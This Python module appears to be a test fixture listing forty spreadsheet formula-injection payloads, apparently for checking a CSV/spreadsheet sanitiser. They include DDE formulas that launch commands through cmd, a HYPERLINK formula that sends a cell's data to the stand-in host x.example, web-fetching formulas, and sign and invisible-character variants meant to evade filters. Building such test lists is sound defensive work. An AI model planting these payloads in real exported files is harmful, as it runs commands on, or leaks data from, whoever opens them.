"""Forty ways to make a spreadsheet run what somebody typed."""

_SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]  # noqa: RUF001 - wide signs are taken for the narrow ones
_BEFORE = ["\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "\u202e", "'", '"', "\x00", "\x0b", "\u3000", "\u2066"]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?d="&A1,"click")',
    '=IMPORTXML("http://x.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=WEBSERVICE(A1)",
    "+1+1",
    "+SUM(A1:A9)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "|calc",
    "%0A=1+1",
    "−1+1",  # noqa: RUF001 - a true minus sign
    "﹣1",
    "﹢1",
    "  \t=1+1",
    *(f"{sign}1" for sign in _SIGNS),
    *(f"{before}=1+1" for before in _BEFORE),
]
assert len(FORMULAS) == 40
